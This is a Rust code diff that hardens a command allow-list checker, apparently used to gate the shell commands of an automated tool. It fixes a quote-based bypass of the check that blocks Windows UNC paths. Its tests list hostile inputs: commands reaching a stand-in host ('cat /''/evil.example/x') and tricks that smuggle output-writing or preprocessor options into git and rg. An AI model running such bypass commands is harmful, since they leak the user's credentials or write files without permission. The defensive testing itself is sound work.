@@ -86,11 +86,14 @@ pub(super) fn allows(pattern: &str, command: &str) -> bool {
 
 /// Returns true if a command uses a program in a way that is listed here.
 fn is_harmless(command: &str) -> bool {
-    // On Windows, `//HOST/x` is a file of another machine, which receives the user's credentials.
-    if command.contains("//") || !command.chars().all(|c| c.is_ascii_alphanumeric() || PLAIN.contains(c)) {
+    if !command.chars().all(|c| c.is_ascii_alphanumeric() || PLAIN.contains(c)) {
         return false;
     }
     let command = unquoted(command);
+    // On Windows, `//HOST/x` is a file of another machine, which receives the user's credentials.
+    if command.contains("//") {
+        return false;
+    }
     let words: Vec<&str> = command.split_whitespace().collect();
     let Some((name, arguments)) = words.split_first() else { return false };
     is_listed(READERS, name)
@@ -224,6 +227,7 @@ mod tests {
             ("git log:*", "git log \u{2013}-output=x"),
             ("git log:*", "git log a,--output=x"),
             ("cat:*", "cat //evil.example/x"),
+            ("cat:*", "cat /''/evil.example/x"),
             ("git log:*", "git log ^--output=x"),
             ("git log:*", "git log %OS:~0,0%--output=x"),
             ("rg:*", "rg --pre evil words"),
